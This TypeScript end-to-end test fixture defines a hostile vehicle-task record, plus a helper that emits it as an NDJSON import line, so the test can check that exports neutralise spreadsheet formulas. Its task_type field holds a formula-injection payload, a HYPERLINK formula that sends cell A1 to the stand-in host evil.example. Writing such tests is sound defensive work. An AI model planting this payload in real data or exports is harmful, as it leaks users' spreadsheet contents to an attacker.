// A task whose type a spreadsheet would run as a formula, imported into the e2e service before
// it starts, so both exports can be checked for neutralising it.
export const HOSTILE_TASK = {
  id: "tsk_e2e_hostile",
  vehicle_id: "veh_e2e_hostile",
  mva: "99990001",
  vin: null,
  task_type: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  status: "completed",
  location_id: "loc_lax_airport",
  odometer_miles: 1234,
} as const;

/** One NDJSON line for `vts import tasks`, started an hour before `now`. */
export function hostileTaskLine(now = new Date()): string {
  return `${JSON.stringify({ ...HOSTILE_TASK, started_at: new Date(now.getTime() - 3_600_000).toISOString() })}\n`;
}
